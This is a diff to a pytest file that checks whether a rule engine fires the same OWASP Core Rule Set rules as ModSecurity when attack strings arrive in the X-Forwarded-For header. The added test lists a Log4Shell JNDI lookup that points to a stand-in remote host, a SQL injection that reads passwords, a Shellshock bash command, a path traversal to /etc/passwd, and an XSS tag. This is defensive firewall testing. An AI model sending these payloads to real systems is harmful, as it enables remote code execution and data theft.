@@ -105,6 +105,29 @@ def test_fired_rules_equal_modsecurity_on_real_logs(sample, shared, paranoia):
     assert agree >= 0.97 * len(ours)
 
 
+FORWARDED_FOR = ["${jndi:ldap://198.51.100.9:1389/Exploit}", "1' UNION SELECT password FROM users-- ",
+                 "() { :; }; /bin/bash -c 'id'", "../../../../etc/passwd", "<script>alert(1)</script>",
+                 "198.51.100.20, 10.0.0.1", "unknown"]
+
+
+@pytest.mark.parametrize("paranoia", [1, 2])
+def test_payloads_in_x_forwarded_for_fire_what_modsecurity_fires(shared, paranoia):
+    crs_dir = shared / "knowledge" / "coreruleset"
+    rows = [{"method": "GET", "path": "/index.html", "query": None, "protocol": "HTTP/1.1",
+             "user_agent": "Mozilla/5.0", "referer": None, "vhost": "localhost", "forwarded_for": value}
+            for value in FORWARDED_FOR]
+    requests = pl.DataFrame(rows, schema={k: pl.String for k in variables.REQUEST_KEYS})
+    ours = fired_by_us(requests, crs_dir, paranoia)
+    oracle = ModSecOracle(crs_dir / "rules", paranoia)
+    try:
+        theirs = [oracle.fired("GET", "/index.html", "HTTP/1.1", "localhost", "Mozilla/5.0", None,
+                               {"X-Forwarded-For": value}) for value in FORWARDED_FOR]
+    finally:
+        oracle.close()
+    assert ours == theirs
+    assert 944150 in ours[0] and BLOCKED in ours[0] and not ours[-2] - {BLOCKED}
+
+
 @pytest.mark.parametrize("entry", KNOWN, ids=[f"{k['rule']}-pl{k['paranoia']}" for k in KNOWN])
 def test_each_known_difference_is_still_one(shared, entry):
     crs_dir = shared / "knowledge" / "coreruleset"
